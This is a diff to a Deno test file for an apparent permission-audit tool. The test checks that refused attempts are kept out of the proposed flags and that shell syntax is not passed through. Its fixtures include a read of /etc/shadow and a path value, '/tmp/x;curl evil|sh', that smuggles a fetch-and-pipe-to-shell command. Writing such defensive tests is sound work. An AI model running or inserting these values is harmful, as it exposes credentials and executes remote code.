@@ -204,7 +204,7 @@ Deno.test("learn mode's minimal flags make the program pass under plain deno run
   }
 });
 
-Deno.test("audit CLI prints the report with the denied attempts and the flags", async () => {
+Deno.test("audit CLI lists the refused attempts apart and never proposes them", async () => {
   const dir = await Deno.makeTempDir();
   const program = `${dir}/p.ts`;
   await Deno.writeTextFile(
@@ -233,16 +233,19 @@ Deno.test("audit CLI prints the report with the denied attempts and the flags", 
       e.value === "/etc/shadow"
     );
     assert.equal(entry?.decision, "deny");
-    assert.ok(
-      report.minimalFlags.includes(
-        "--allow-read=/etc/shadow,/tmp/x;curl evil|sh",
-      ),
-    );
-    // A path the program chose cannot smuggle shell syntax into the command.
+    // Refused in the run: listed, never proposed; /etc/shadow is named as
+    // sensitive.
+    assert.deepEqual(report.minimalFlags, []);
+    const refused = report.refused.map((t: { value: string }) => t.value);
+    assert.deepEqual(refused.sort(), ["/etc/shadow", "/tmp/x;curl evil|sh"]);
     assert.match(
-      report.denoCommand,
-      /^deno run '--allow-read=\/etc\/shadow,\/tmp\/x;curl evil\|sh' /,
+      report.refused.find((t: { value: string }) => t.value === "/etc/shadow")
+        .sensitive,
+      /system credentials/,
     );
+    // A path the program chose cannot smuggle shell syntax into the
+    // command: the program name is quoted like every flag.
+    assert.match(report.denoCommand, /^deno run \S*p\.ts$/);
   } finally {
     await Deno.remove(dir, { recursive: true });
   }
